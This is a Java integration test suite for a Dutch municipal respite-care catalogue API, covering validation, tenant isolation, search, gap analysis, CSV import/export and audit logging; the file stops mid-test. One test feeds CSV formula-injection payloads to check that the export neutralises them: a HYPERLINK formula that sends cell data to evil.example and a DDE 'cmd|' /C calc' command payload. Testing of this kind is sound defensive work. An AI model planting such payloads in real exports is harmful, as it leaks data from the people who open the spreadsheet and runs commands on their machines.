package nl.mantelkring.itest;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertNotNull;
import static org.junit.Assert.assertTrue;

import java.io.File;
import java.util.ArrayList;
import java.util.Dictionary;
import java.util.Hashtable;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.UUID;

import javax.inject.Inject;
import javax.sql.DataSource;

import org.apache.karaf.features.FeaturesService;
import org.junit.Before;
import org.junit.Test;
import org.junit.runner.RunWith;
import org.ops4j.pax.exam.junit.PaxExam;
import org.ops4j.pax.exam.spi.reactors.ExamReactorStrategy;
import org.ops4j.pax.exam.spi.reactors.PerClass;
import org.ops4j.pax.exam.util.Filter;
import org.osgi.framework.BundleContext;
import org.osgi.framework.ServiceRegistration;

import com.fasterxml.jackson.databind.JsonNode;

import nl.mantelkring.platform.api.plugin.Plugins;
import nl.mantelkring.respite.OfferingSource;

/**
 * The respite catalogue over HTTP against the real distribution: validation, sharing, search, gap analysis,
 * import/export, the offering source SPI, tenant isolation, gating and audit.
 */
@RunWith(PaxExam.class)
@ExamReactorStrategy(PerClass.class)
public class RespiteIT extends MantelkringTestSupport {

    static final String FEATURE = "mantelkring-respite";
    static final String BEHEERDER_A = "beheerder-amsterdam";
    static final String BEHEERDER_U = "beheerder-utrecht";
    static final String CONSULENT_A = "consulent-amsterdam";
    static final String CONSULENT_U = "consulent-utrecht";
    static final String AUDITOR_A = "auditor-amsterdam";
    static final String AUDITOR_U = "auditor-utrecht";
    static final String BASE_A = "/gemeenten/GM0363/respijtaanbod";
    static final String BASE_U = "/gemeenten/GM0344/respijtaanbod";

    @Inject
    private FeaturesService features;

    @Inject
    private BundleContext context;

    @Inject
    @Filter("(dataSourceName=mantelkring)")
    private DataSource dataSource;

    @Before
    public void installAndEnable() throws Exception {
        if (!features.isInstalled(features.getFeature(FEATURE))) {
            features.installFeature(FEATURE);
        }
        enable("GM0363", BEHEERDER_A);
        enable("GM0344", BEHEERDER_U);
    }

    private void enable(String tenant, String admin) {
        switchModule(api, tenant, admin, true);
    }

    /** Switches the module on or off for the tenant and waits until its API answers accordingly (200 or 404). */
    static void switchModule(Api api, String tenant, String admin, boolean on) {
        api.await(admin, "/gemeenten/" + tenant + "/modules/respite", 200);
        Api.Res r = api.json(admin, "PUT", "/gemeenten/" + tenant + "/modules/respite",
                "{\"ingeschakeld\":" + on + ",\"reden\":\"integratietest\"}");
        assertEquals(r.toString(), 200, r.status());
        api.await(admin, "/gemeenten/" + tenant + "/postcodegebieden", on ? 200 : 404);
    }

    /** A valid offering at a location, as JSON; {@code extra} is spliced in as more fields. */
    static String offering(String title, String kind, String groups, double lat, double lon, String extra) {
        return "{\"titel\":\"" + title + "\",\"soort\":\"" + kind + "\",\"zorgplek\":\"locatie\","
                + "\"uitvoering\":\"professioneel\",\"doelgroepen\":[" + groups + "],"
                + "\"financiering\":[\"wmo-zonder-beschikking\"],"
                + "\"aanbieder\":{\"naam\":\"Zorggroep Integratie\",\"contactpersoon\":{\"naam\":\"Test Persoon\","
                + "\"telefoon\":\"020-1234567\"}},"
                + "\"locaties\":[{\"postcode\":\"1011 AB\",\"lat\":" + lat + ",\"lon\":" + lon + "}]"
                + (extra == null ? "" : "," + extra) + "}";
    }

    private JsonNode create(String user, String base, String body) {
        Api.Res r = api.json(user, "POST", base, body);
        assertEquals(r.toString(), 201, r.status());
        assertNotNull(r.header("Location"));
        return r.json();
    }

    /** A GET with an Accept header. */
    private Api.Res accept(String user, String path, String accept) {
        return api.getAs(user, path, accept);
    }

    private static List<String> field(JsonNode hits, String name) {
        List<String> out = new ArrayList<>();
        hits.path("resultaten").forEach(h -> out.add(h.path("aanbod").path(name).asText()));
        return out;
    }

    @Test
    public void createAndUpdateValidateAndAnswerProblems() {
        JsonNode bad = assertProblem(api.json(CONSULENT_A, "POST", BASE_A, "{\"titel\":\"X\",\"soort\":\"kamperen\","
                + "\"locaties\":[{\"lat\":99}]}"), 400);
        TreeSet<String> names = new TreeSet<>();
        bad.path("invalidParams").forEach(p -> names.add(p.path("name").asText()));
        assertTrue(names.toString(), names.containsAll(List.of("titel", "soort", "zorgplek", "uitvoering",
                "doelgroepen", "financiering", "aanbieder.naam", "locaties.0.lat", "locaties.0.lon")));
        assertProblem(api.json(CONSULENT_A, "POST", BASE_A, "{\"kleur\":\"blauw\"}"), 400);
        assertProblem(api.send(CONSULENT_A, "POST", BASE_A, "text/plain", "hallo"), 415);
        assertProblem(api.get(CONSULENT_A, BASE_A + "?pagina=een"), 400);
        assertProblem(api.get(CONSULENT_A, BASE_A + "/geen-uuid"), 400);
        assertProblem(api.get(CONSULENT_A, BASE_A + "/" + UUID.randomUUID()), 404);
        assertProblem(api.get(AUDITOR_A, BASE_A), 403);

        JsonNode created = create(CONSULENT_A, BASE_A, offering("Dagopvang Validatie", "dagopvang",
                "\"dementie\"", 52.37, 4.90, "\"externId\":\"it-validatie\""));
        String id = created.path("id").asText();
        assertEquals("GM0363", created.path("eigenaar").asText());
        assertEquals(1, created.path("versie").asInt());
        assertEquals("actief", created.path("status").asText());
        assertEquals(200, api.get(CONSULENT_A, BASE_A + "/" + id).status());
        // a duplicate external id conflicts; a rejected update changes nothing
        assertProblem(api.json(CONSULENT_A, "POST", BASE_A, offering("Ander", "dagopvang", "\"dementie\"", 52.37,
                4.90, "\"externId\":\"it-validatie\"")), 409);
        assertProblem(api.json(CONSULENT_A, "PUT", BASE_A + "/" + id, offering("Dagopvang Validatie", "dagopvang",
                "\"dementie\"", 52.37, 4.90, "\"leeftijdVan\":80,\"leeftijdTot\":18")), 400);
        assertEquals(1, api.get(CONSULENT_A, BASE_A + "/" + id).json().path("versie").asInt());
        Api.Res updated = api.json(CONSULENT_A, "PUT", BASE_A + "/" + id, offering("Dagopvang Validatie (nieuw)",
                "dagopvang", "\"dementie\"", 52.37, 4.90, "\"versie\":1"));
        assertEquals(updated.toString(), 200, updated.status());
        assertEquals(2, updated.json().path("versie").asInt());
        assertProblem(api.json(CONSULENT_A, "PUT", BASE_A + "/" + id, offering("Verouderd", "dagopvang",
                "\"dementie\"", 52.37, 4.90, "\"versie\":1")), 409);
        // tenant isolation: Utrecht cannot see Amsterdam's record, nor Amsterdam's paths
        assertProblem(api.get(CONSULENT_U, BASE_U + "/" + id), 404);
        assertEquals("Er is geen resource op dit pad.", assertProblem(api.get(CONSULENT_U, BASE_A + "/" + id), 404)
                .path("detail").asText());
        assertEquals(204, api.send(CONSULENT_A, "DELETE", BASE_A + "/" + id, null, null).status());
        assertProblem(api.get(CONSULENT_A, BASE_A + "/" + id), 404);
    }

    @Test
    public void sharedOfferingsAreSeenByTheRegionButEditedOnlyByTheOwner() {
        JsonNode shared = create(CONSULENT_U, BASE_U, offering("Regionaal logeerhuis Deeltest", "logeerzorg",
                "\"autisme\"", 52.09, 5.12, "\"gedeeldMet\":[\"GM0363\"]"));
        String id = shared.path("id").asText();
        assertEquals("GM0344", api.get(CONSULENT_A, BASE_A + "/" + id).json().path("eigenaar").asText());
        assertEquals(List.of("Regionaal logeerhuis Deeltest"),
                field(api.get(CONSULENT_A, BASE_A + "?zoekterm=deeltest").json(), "titel"));
        JsonNode refused = assertProblem(api.json(CONSULENT_A, "PUT", BASE_A + "/" + id, offering("Overgenomen",
                "logeerzorg", "\"autisme\"", 52.09, 5.12, null)), 403);
        assertTrue(refused.path("type").asText().endsWith("alleen-eigenaar"));
        assertProblem(api.send(CONSULENT_A, "DELETE", BASE_A + "/" + id, null, null), 403);
        // the owner stops sharing: gone for Amsterdam
        assertEquals(200, api.json(CONSULENT_U, "PUT", BASE_U + "/" + id, offering("Regionaal logeerhuis Deeltest",
                "logeerzorg", "\"autisme\"", 52.09, 5.12, null)).status());
        assertProblem(api.get(CONSULENT_A, BASE_A + "/" + id), 404);
        assertEquals(List.of(), field(api.get(CONSULENT_A, BASE_A + "?zoekterm=deeltest").json(), "titel"));
    }

    @Test
    public void searchFiltersSortsByDistanceAndCountsFacets() {
        create(CONSULENT_A, BASE_A, offering("Zoektest dagopvang Centrum", "dagopvang", "\"dementie\",\"ouderen\"",
                52.3740, 4.9000, "\"talen\":[\"nl\",\"tr\"]"));
        create(CONSULENT_A, BASE_A, offering("Zoektest logeerhuis Zuidoost", "logeerzorg", "\"autisme\"",
                52.3100, 4.9700, "\"indicatieNodig\":true"));
        create(CONSULENT_A, BASE_A, "{\"titel\":\"Zoektest oppas thuis\",\"soort\":\"oppas-thuis\","
                + "\"zorgplek\":\"thuis\",\"uitvoering\":\"vrijwillig\",\"doelgroepen\":[\"dementie\"],"
                + "\"financiering\":[\"gratis\"],\"aanbieder\":{\"naam\":\"Steunpunt\"},"
                + "\"werkgebied\":{\"postcodes\":[\"1060\"]}}");
        String q = BASE_A + "?zoekterm=zoektest";
        JsonNode all = api.get(CONSULENT_A, q).json();
        assertEquals(3, all.path("paginering").path("totaal").asInt());
        assertEquals(2, all.path("facetten").path("doelgroep").path("dementie").asInt());
        assertEquals(1, all.path("facetten").path("soort").path("logeerzorg").asInt());
        assertEquals(1, all.path("facetten").path("taal").path("tr").asInt());
        JsonNode shortStay = api.get(CONSULENT_A, q + "&soort=logeerzorg").json();
        assertEquals(List.of("Zoektest logeerhuis Zuidoost"), field(shortStay, "titel"));
        assertEquals(1, shortStay.path("facetten").path("soort").path("dagopvang").asInt());   // the alternatives
        assertEquals(0, shortStay.path("facetten").path("doelgroep").path("dementie").asInt());
        assertEquals(2, api.get(CONSULENT_A, q + "&doelgroep=dementie").json().path("paginering").path("totaal")
                .asInt());
        assertEquals(List.of("Zoektest oppas thuis"), field(api.get(CONSULENT_A, q + "&zorgplek=thuis").json(),
                "titel"));
        assertEquals(List.of("Zoektest logeerhuis Zuidoost"), field(api.get(CONSULENT_A, q + "&indicatieNodig=true")
                .json(), "titel"));
        assertEquals(List.of("Zoektest dagopvang Centrum"), field(api.get(CONSULENT_A, q + "&taal=tr").json(),
                "titel"));
        assertEquals(List.of("Zoektest oppas thuis"), field(api.get(CONSULENT_A, q + "&financiering=gratis").json(),
                "titel"));
        assertEquals(List.of("Zoektest dagopvang Centrum"), field(api.get(CONSULENT_A, BASE_A
                + "?zoekterm=zoektest%20opvang").json(), "titel"));       // compound: opvang in dagopvang
        // distance from the Dam: Centrum (0.3 km), Zuidoost (~8 km), care at home without a postcode last
        JsonNode near = api.get(CONSULENT_A, q + "&lat=52.3731&lon=4.8926&sortering=afstand").json();
        assertEquals(List.of("Zoektest dagopvang Centrum", "Zoektest logeerhuis Zuidoost", "Zoektest oppas thuis"),
                field(near, "titel"));
        assertTrue(near.path("resultaten").get(0).path("afstandKm").asDouble() < 1);
        assertEquals(List.of("Zoektest dagopvang Centrum"), field(api.get(CONSULENT_A, q
                + "&lat=52.3731&lon=4.8926&maxAfstandKm=5").json(), "titel"));
        // from a postcode area of the tenant: the service area counts as distance 0
        assertEquals(201, api.json(BEHEERDER_A, "PUT", "/gemeenten/GM0363/postcodegebieden/1060",
                "{\"naam\":\"Nieuw-West\",\"lat\":52.36,\"lon\":4.80}").status());
        JsonNode west = api.get(CONSULENT_A, q + "&postcode=1060&maxAfstandKm=3").json();
        assertEquals(List.of("Zoektest oppas thuis"), field(west, "titel"));
        JsonNode problem = assertProblem(api.get(CONSULENT_A, q + "&postcode=9999&soort=kamperen&lat=52"), 400);
        assertTrue(problem.path("invalidParams").size() >= 3);
    }

    @Test
    public void gapAnalysisOnAHandCheckedMap() throws Exception {
        // Utrecht: two areas 10 km apart; night care for acquired brain injury only near 3511
        assertEquals(201, api.json(BEHEERDER_U, "PUT", "/gemeenten/GM0344/postcodegebieden/3511",
                "{\"naam\":\"Binnenstad\",\"lat\":52.0907,\"lon\":5.1214}").status());
        assertEquals(201, api.json(BEHEERDER_U, "PUT", "/gemeenten/GM0344/postcodegebieden/3451",
                "{\"naam\":\"Vleuten\",\"lat\":52.1040,\"lon\":4.9760}").status());
        for (int i = 0; i < 2; i++) {
            create(CONSULENT_U, BASE_U, offering("Nachtzorg NAH " + i, "nachtzorg", "\"niet-aangeboren-hersenletsel\"",
                    52.0910, 5.1220, null));
        }
        String path = "/gemeenten/GM0344/witte-vlekken?afstandKm=3&overlapDrempel=2&soort=nachtzorg,respijtvakantie"
                + "&doelgroep=niet-aangeboren-hersenletsel";
        JsonNode r = api.get(CONSULENT_U, path).json();
        assertEquals(2, r.path("aantalCombinaties").asInt());
        assertEquals(3, r.path("aantalWitteVlekken").asInt());
        JsonNode vleuten = r.path("gebieden").get(0);          // ordered by postcode: 3451 first
        assertEquals("3451", vleuten.path("postcode").asText());
        assertEquals(2, vleuten.path("aantalWitteVlekken").asInt());
        JsonNode centre = r.path("gebieden").get(1);
        assertEquals(1, centre.path("aantalWitteVlekken").asInt());
        assertEquals("respijtvakantie", centre.path("witteVlekken").get(0).path("soort").asText());
        assertEquals(2, centre.path("overlappingen").get(0).path("aantal").asInt());
        Api.Res csv = accept(CONSULENT_U, path, "text/csv");
        assertEquals(200, csv.status());
        assertTrue(csv.contentType().startsWith("text/csv"));
        List<String> lines = csv.body().lines().toList();
        assertEquals("postcode,naam,soort,doelgroep,beoordeling,aantal", lines.get(0));
        assertTrue(lines.contains("3511,Binnenstad,nachtzorg,niet-aangeboren-hersenletsel,overlap,2"));
        assertEquals(1 + 3 + 1, lines.size());
        assertProblem(api.get(CONSULENT_U, "/gemeenten/GM0344/witte-vlekken?afstandKm=ver"), 400);
        // Amsterdam's view has none of Utrecht's areas
        assertEquals(0, api.get(CONSULENT_A, "/gemeenten/GM0363/witte-vlekken?soort=nachtzorg").json()
                .path("gebieden").findValues("postcode").stream().filter(p -> p.asText().startsWith("3")).count());
    }

    static final String CSV_HEADER = "externId;titel;soort;zorgplek;uitvoering;doelgroepen;financiering;"
            + "aanbieder.naam;aanbieder.contactpersoon.naam;locatie.postcode;locatie.lat;locatie.lon";
    static final String CSV_FILE = CSV_HEADER + "\n"
            + "imp-1;Importtest dagopvang;dagopvang;locatie;professioneel;dementie;wlz;De Hoeve;A. Bakker;"
            + "1011 AB;52.37;4.90\n"
            + "imp-2;Importtest fout;dagopvang;locatie;professioneel;katten;wlz;De Hoeve;;1011;52.37;4.90\n"
            + "imp-3;Importtest logeren;logeerzorg;locatie;vrijwillig;autisme|kinderen;gratis;Het Anker;;"
            + "1102;52.31;4.97\n"
            + "imp-4;Importtest zonder plek;logeerzorg;locatie;vrijwillig;autisme;gratis;Het Anker;;;;\n";

    @Test
    public void importReportsBadRowsIsIdempotentAndExports() throws Exception {
        Api.Res first = api.send(BEHEERDER_A, "POST", BASE_A + "/importen", "text/csv", CSV_FILE);
        assertEquals(first.toString(), 200, first.status());
        JsonNode report = first.json();
        assertEquals(4, report.path("aantalRijen").asInt());
        assertEquals(2, report.path("aangemaakt").asInt());
        assertEquals(2, report.path("afgewezen").asInt());
        JsonNode row3 = report.path("rijen").get(1);
        assertEquals(3, row3.path("rij").asInt());
        assertEquals("afgewezen", row3.path("uitkomst").asText());
        assertEquals("doelgroepen", row3.path("fouten").get(0).path("name").asText());
        assertEquals("locatie.lat", report.path("rijen").get(3).path("fouten").get(0).path("name").asText());
        JsonNode again = api.send(BEHEERDER_A, "POST", BASE_A + "/importen", "text/csv", CSV_FILE).json();
        assertEquals(0, again.path("aangemaakt").asInt());
        assertEquals(2, again.path("ongewijzigd").asInt());
        assertEquals(2, api.get(CONSULENT_A, BASE_A + "?zoekterm=importtest").json().path("paginering")
                .path("totaal").asInt());
        assertProblem(api.send(CONSULENT_A, "POST", BASE_A + "/importen", "text/csv", CSV_FILE), 403);
        assertProblem(api.send(BEHEERDER_A, "POST", BASE_A + "/importen", "text/csv", "titel,kleur\nx,y\n"), 400);
        // export: the tenant's own offerings, re-importable unchanged
        Api.Res export = accept(CONSULENT_A, BASE_A, "text/csv");
        assertEquals(200, export.status());
        assertTrue(export.body().startsWith("externId,titel,"));
        assertTrue(export.body().contains("Importtest logeren"));
        assertFalse(export.body().contains("Deeltest"));                    // Utrecht's offering is not exported
        JsonNode reimport = api.send(BEHEERDER_A, "POST", BASE_A + "/importen", "text/csv", export.body()).json();
        assertEquals(0, reimport.path("afgewezen").asInt());
        assertEquals(0, reimport.path("bijgewerkt").asInt());
        // without an Accept header the collection answers JSON
        assertTrue(api.get(CONSULENT_A, BASE_A).contentType().startsWith("application/json"));
    }

    private static String firstInvalid(JsonNode problem) {
        return problem.path("invalidParams").get(0).path("name").asText();
    }

    private int total(String user, String query) {
        return api.get(user, BASE_A + "?" + query).json().path("paginering").path("totaal").asInt();
    }

    /** Issue 16 items 4 and 8: control characters and postcodes PostNL does not issue are refused, nothing stored. */
    @Test
    public void controlCharactersAndUnissuedPostcodesAreRefusedAndNothingIsStored() {
        int before = total(CONSULENT_A, "zoekterm=tekentest");
        // JSON: the field path is named (single-line fields refuse line breaks too; free text allows them)
        assertEquals("titel", firstInvalid(assertProblem(api.json(CONSULENT_A, "POST", BASE_A,
                offering("Tekentest\\u0000nul", "dagopvang", "\"dementie\"", 52.37, 4.9, null)), 400)));
        assertEquals("omschrijving", firstInvalid(assertProblem(api.json(CONSULENT_A, "POST", BASE_A,
                offering("Tekentest esc", "dagopvang", "\"dementie\"", 52.37, 4.9,
                        "\"omschrijving\":\"rood \\u001b[31m\"")), 400)));
        assertEquals("aanbieder.contactpersoon.naam", firstInvalid(assertProblem(api.json(CONSULENT_A, "POST", BASE_A,
                offering("Tekentest regel", "dagopvang", "\"dementie\"", 52.37, 4.9, null)
                        .replace("Test Persoon", "Test\\nPersoon")), 400)));
        assertEquals("locaties.0.postcode", firstInvalid(assertProblem(api.json(CONSULENT_A, "POST", BASE_A,
                offering("Tekentest postcode", "dagopvang", "\"dementie\"", 52.37, 4.9, null)
                        .replace("1011 AB", "1011 SS")), 400)));
        assertEquals("locaties.0.postcode", firstInvalid(assertProblem(api.json(CONSULENT_A, "POST", BASE_A,
                offering("Tekentest postcode", "dagopvang", "\"dementie\"", 52.37, 4.9, null)
                        .replace("1011 AB", "0123 AB")), 400)));
        assertEquals(before, total(CONSULENT_A, "zoekterm=tekentest"));
        Api.Res free = api.json(CONSULENT_A, "POST", BASE_A, offering("Tekentest vrije tekst", "dagopvang",
                "\"dementie\"", 52.37, 4.9, "\"externId\":\"tekentest-vrij\",\"omschrijving\":\"Regel 1\\nRegel 2\\tkolom\""));
        assertEquals(free.toString(), 201, free.status());
        assertEquals("Regel 1\nRegel 2\tkolom", free.json().path("omschrijving").asText());
        // a postcode area: name checked, area 1000-9999
        String areas = "/gemeenten/GM0363/postcodegebieden";
        assertEquals("naam", firstInvalid(assertProblem(api.json(BEHEERDER_A, "PUT", areas + "/1019",
                "{\"naam\":\"Oost\\u0000\",\"lat\":52.37,\"lon\":4.94}"), 400)));
        assertEquals("postcode", firstInvalid(assertProblem(api.json(BEHEERDER_A, "PUT", areas + "/0999",
                "{\"naam\":\"Nul\",\"lat\":52.37,\"lon\":4.94}"), 400)));
        assertFalse(api.get(CONSULENT_A, areas + "?paginaGrootte=100").body().contains("1019"));
        // a search term (query parameter) is single-line text
        assertEquals("zoekterm", firstInvalid(assertProblem(api.get(CONSULENT_A, BASE_A + "?zoekterm=a%1Bb"), 400)));
        assertEquals("postcode", firstInvalid(assertProblem(api.get(CONSULENT_A, BASE_A + "?postcode=1011%20SD"),
                400)));
        // CSV import: the row is refused naming the column, nothing of it stored
        Api.Res imported = api.send(BEHEERDER_A, "POST", BASE_A + "/importen", "text/csv", CSV_HEADER + "\n"
                + "teken-1;Tekentest nul\u0000;dagopvang;locatie;professioneel;dementie;wlz;De Hoeve;;1011;52.37;4.9\n"
                + "teken-2;Tekentest esc;dagopvang;locatie;professioneel;dementie;wlz;De \u001bHoeve;;1011;52.37;4.9\n"
                + "teken-3;Tekentest pc;dagopvang;locatie;professioneel;dementie;wlz;De Hoeve;;1011 SA;52.37;4.9\n");
        assertEquals(imported.toString(), 200, imported.status());
        JsonNode rows = imported.json().path("rijen");
        assertEquals(3, imported.json().path("afgewezen").asInt());
        assertEquals("titel", rows.get(0).path("fouten").get(0).path("name").asText());
        assertEquals("aanbieder.naam", rows.get(1).path("fouten").get(0).path("name").asText());
        assertEquals("locatie.postcode", rows.get(2).path("fouten").get(0).path("name").asText());
        assertEquals(before + 1, total(CONSULENT_A, "zoekterm=tekentest"));   // only the free-text one
    }

    /** Issue 16 item 6: text that a spreadsheet would run is exported as text, and imported back as it was. */
    @Test
    public void theExportNeutralisesFormulas() throws Exception {
        Api.Res imported = api.send(BEHEERDER_A, "POST", BASE_A + "/importen", "text/csv", "externId;titel;omschrijving;"
                + "soort;zorgplek;uitvoering;doelgroepen;financiering;aanbieder.naam;aanbieder.telefoon;"
                + "locatie.postcode;locatie.lat;locatie.lon\n"
                + "formule-1;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Klik hier\"\")\";"
                + "@SUM(1+1)*cmd|' /C calc'!A0;dagopvang;locatie;professioneel;dementie;wlz;+Zorg;+31 20 1234567;"
                + "1011;52.37;4.9\n"
                + "formule-2;-Formuletest min;+plus;dagopvang;locatie;professioneel;dementie;wlz;@Zorg;;1011;52.37;4.9\n");
        assertEquals(imported.toString(), 2, imported.json().path("aangemaakt").asInt());
        Api.Res export = accept(CONSULENT_A, BASE_A, "text/csv");
        assertEquals(200, export.status());
        String formula1 = export.body().lines().filter(l -> l.startsWith("formule-1,")).findFirst().orElseThrow();
        String formula2 = export.body().lines().filter(l -> l.startsWith("formule-2,")).findFirst().orElseThrow();
        assertTrue(formula1, formula1.startsWith(
                "formule-1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Klik hier\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0,"));
        assertTrue(formula1, formula1.contains(",'+Zorg,"));
        assertTrue(formula1, formula1.contains(",'+31 20 1234567,"));
        assertTrue(formula2, formula2.startsWith("formule-2,'-Formuletest min,'+plus,"));
        assertTrue(formula2, formula2.contains(",'@Zorg,"));
        // no cell of the whole export starts a formula
        for (String line : export.body().lines().toList()) {
            assertFalse(line, line.matches("(^|.*,)\"?[=+@-].*") && !line.startsWith("externId,"));
        }
        // re-imported unchanged: the stored text is what the provider sent
        String header = export.body().lines().findFirst().orElseThrow();
        JsonNode again = api.send(BEHEERDER_A, "POST", BASE_A + "/importen", "text/csv",
                header + "\r\n" + formula1 + "\r\n" + formula2 + "\r\n").json();
        assertEquals(again.toString(), 2, again.path("ongewijzigd").asInt());
        String id = imported.json().path("rijen").get(0).path("aanbodId").asText();
        assertEquals("=HYPERLINK(\"http://evil.example/?\"&A1;\"Klik hier\")",
                api.get(CONSULENT_A, BASE_A + "/" + id).json().path("titel").asText());
    }

    @Test
    public void anOfferingSourceFeedsTheCatalogue() {
        assertProblem(api.send(BEHEERDER_A, "POST", BASE_A + "/synchronisaties", null, null), 409);
        Dictionary<String, Object> props = new Hashtable<>();
        props.put(Plugins.ID, "it-sociale-kaart");
        props.put(Plugins.TENANT, "GM0363");
        OfferingSource source = tenant -> List.of(
                Map.of("externId", "bron-1", "titel", "Brontest dagactiviteiten", "soort", "dagactiviteiten",
                        "zorgplek", "locatie", "uitvoering", "professioneel", "doelgroepen", "ouderen",
                        "financiering", "wmo-met-beschikking", "aanbieder.naam", "Buurthuis", "locatie.lat", "52.35",
                        "locatie.lon", "4.91"),
                Map.of("externId", "bron-2", "titel", "Brontest kapot", "soort", "kamperen"));
        ServiceRegistration<OfferingSource> reg = context.registerService(OfferingSource.class, source, props);
        try {
            assertEquals(200, api.json(BEHEERDER_A, "PUT", "/gemeenten/GM0363/beleid/respijtzorg.bron",
                    "{\"waarde\":{\"plugin\":\"it-sociale-kaart\"},\"reden\":\"integratietest\"}").status());
            Api.Res run = api.send(BEHEERDER_A, "POST", BASE_A + "/synchronisaties", null, null);
            assertEquals(run.toString(), 200, run.status());
            assertEquals("geslaagd", run.json().path("uitkomst").asText());
            assertEquals(1, run.json().path("aangemaakt").asInt());
            assertEquals(1, run.json().path("afgewezen").asInt());
            JsonNode second = api.send(BEHEERDER_A, "POST", BASE_A + "/synchronisaties", null, null).json();
            assertEquals(1, second.path("ongewijzigd").asInt());
            assertEquals(1, api.get(CONSULENT_A, BASE_A + "?zoekterm=brontest").json().path("paginering")
                    .path("totaal").asInt());
            assertEquals("geslaagd", api.get(BEHEERDER_A, BASE_A + "/synchronisaties").json().path("uitkomst")
                    .asText());
            // Utrecht cannot select Amsterdam's plugin: fail safe with 503
            api.json(BEHEERDER_U, "PUT", "/gemeenten/GM0344/beleid/respijtzorg.bron",
                    "{\"waarde\":{\"plugin\":\"it-sociale-kaart\"},\"reden\":\"integratietest\"}");
            assertProblem(api.send(BEHEERDER_U, "POST", BASE_U + "/synchronisaties", null, null), 503);
        } finally {
            reg.unregister();
        }
        assertProblem(api.send(BEHEERDER_A, "POST", BASE_A + "/synchronisaties", null, null), 503);
    }

    /** Every operation of the module, with a valid body, on GM0363. */
    static final String[][] OPERATIONS = {
        {"GET", BASE_A, null},
        {"POST", BASE_A, offering("Probe", "dagopvang", "\"dementie\"", 52.37, 4.9, null)},
        {"GET", BASE_A + "/00000000-0000-0000-0000-000000000000", null},
        {"PUT", BASE_A + "/00000000-0000-0000-0000-000000000000", offering("Probe", "dagopvang", "\"dementie\"",
                52.37, 4.9, null)},
        {"DELETE", BASE_A + "/00000000-0000-0000-0000-000000000000", null},
        {"POST", BASE_A + "/importen", null},
        {"GET", BASE_A + "/synchronisaties", null},
        {"POST", BASE_A + "/synchronisaties", null},
        {"GET", "/gemeenten/GM0363/postcodegebieden", null},
        {"PUT", "/gemeenten/GM0363/postcodegebieden/1011", "{\"naam\":\"x\",\"lat\":52.37,\"lon\":4.9}"},
        {"DELETE", "/gemeenten/GM0363/postcodegebieden/1011", null},
        {"GET", "/gemeenten/GM0363/witte-vlekken", null},
    };

    @Test
    public void otherTenantsAndUnknownTenantsGet404Everywhere() {
        for (String[] op : OPERATIONS) {
            String type = op[1].endsWith("importen") ? "text/csv" : op[2] == null ? null : "application/json";
            String body = op[1].endsWith("importen") ? CSV_FILE : op[2];
            for (String user : List.of(CONSULENT_U, BEHEERDER_U, AUDITOR_U)) {
                JsonNode p = assertProblem(api.send(user, op[0], op[1], type, body), 404);
                assertEquals(op[0] + " " + op[1], "Er is geen resource op dit pad.", p.path("detail").asText());
            }
            assertProblem(api.send(BEHEERDER_A, op[0], op[1].replace("GM0363", "GM9999"), type, body), 404);
        }
    }

    @Test
    public void gatingAndReadiness() throws Exception {
        Api.Res off = api.json(BEHEERDER_U, "PUT", "/gemeenten/GM0344/modules/respite",
                "{\"ingeschakeld\":false,\"reden\":\"integratietest\"}");
        assertEquals(200, off.status());
        assertEquals("Deze module is niet ingeschakeld voor deze gemeente.",
                assertProblem(api.get(CONSULENT_U, BASE_U), 404).path("detail").asText());
        enable("GM0344", BEHEERDER_U);
        features.uninstallFeature(FEATURE);
        try {
            assertProblem(api.await(CONSULENT_A, BASE_A, 404), 404);
            JsonNode ready = assertProblem(api.await(null, "/health/ready", 503), 503);
            assertTrue(ready.toString(), ready.toString().contains("module.respite"));
        } finally {
            features.installFeature(FEATURE);
        }
        api.await(CONSULENT_A, BASE_A, 200);
    }

    @Test
    public void readsAndWritesAreAuditedWithoutNames() throws Exception {
        String id = create(CONSULENT_A, BASE_A, offering("Audittest", "nachtzorg", "\"dementie\"", 52.37, 4.9, null))
                .path("id").asText();
        assertTrue(api.get(CONSULENT_A, BASE_A + "/" + id).body().contains("Test Persoon"));
        // search hits leave the contact person out (and so need no audit entry)
        Api.Res hits = api.get(CONSULENT_A, BASE_A + "?zoekterm=audittest");
        assertEquals(1, hits.json().path("paginering").path("totaal").asInt());
        assertFalse(hits.body().contains("Test Persoon"));
        api.send(AUDITOR_A, "GET", BASE_A + "/" + id, null, null);                    // refused: 403
        JsonNode page = api.get(AUDITOR_A, "/gemeenten/GM0363/logboek?gegevenId=" + id
                + "&soortGegeven=respijtaanbod&paginaGrootte=100").json();
        List<String> seen = new ArrayList<>();
        page.path("resultaten").forEach(e -> seen.add(e.path("verwerkingsactiviteit").asText() + " "
                + e.path("uitkomst").asText()));
        assertTrue(seen.toString(), seen.contains("respijtaanbod.aanmaken geslaagd 201"));
        assertTrue(seen.toString(), seen.contains("respijtaanbod.lezen geslaagd 200"));
        assertTrue(seen.toString(), seen.contains("respijtaanbod.lezen geweigerd 403"));
        JsonNode entry = page.path("resultaten").get(0);
        assertTrue(entry.path("doelbinding").asText().startsWith("Informatie over respijtzorg"));
        assertFalse(page.toString().contains("Test Persoon"));
        assertTrue(api.get(AUDITOR_A, "/gemeenten/GM0363/logboek/verificatie").json().path("geldig").asBoolean());
        // the served OpenAPI document with this module merged: saved for the ADR lint of the build
        Api.Res doc = api.get(null, "/openapi.json");
        assertTrue(doc.json().path("paths").has("/gemeenten/{gemeentecode}/witte-vlekken"));
        File dir = new File(System.getProperty("mantelkring.itest.dir"));
        dir.mkdirs();
        java.nio.file.Files.writeString(new File(dir, "openapi-respite.json").toPath(), doc.body());
    }

    /**
     * Issue 16 item 7: the same CSV of new offerings imported twelve times at once creates each offering once; every
     * import answers 200 (the later ones find the offerings unchanged), none a 500 on the externId key.
     */
    @Test
    public void twelveIdenticalImportsAtOnceCreateEachOfferingOnce() throws Exception {
        String run = UUID.randomUUID().toString().substring(0, 8);
        String csv = CSV_HEADER + "\n"
                + "par-" + run + "-1;Paralleltest dagopvang;dagopvang;locatie;professioneel;dementie;wlz;De Hoeve;;"
                + "1011 AB;52.37;4.90\n"
                + "par-" + run + "-2;Paralleltest logeren;logeerzorg;locatie;vrijwillig;autisme;gratis;Het Anker;;"
                + "1102;52.31;4.97\n";
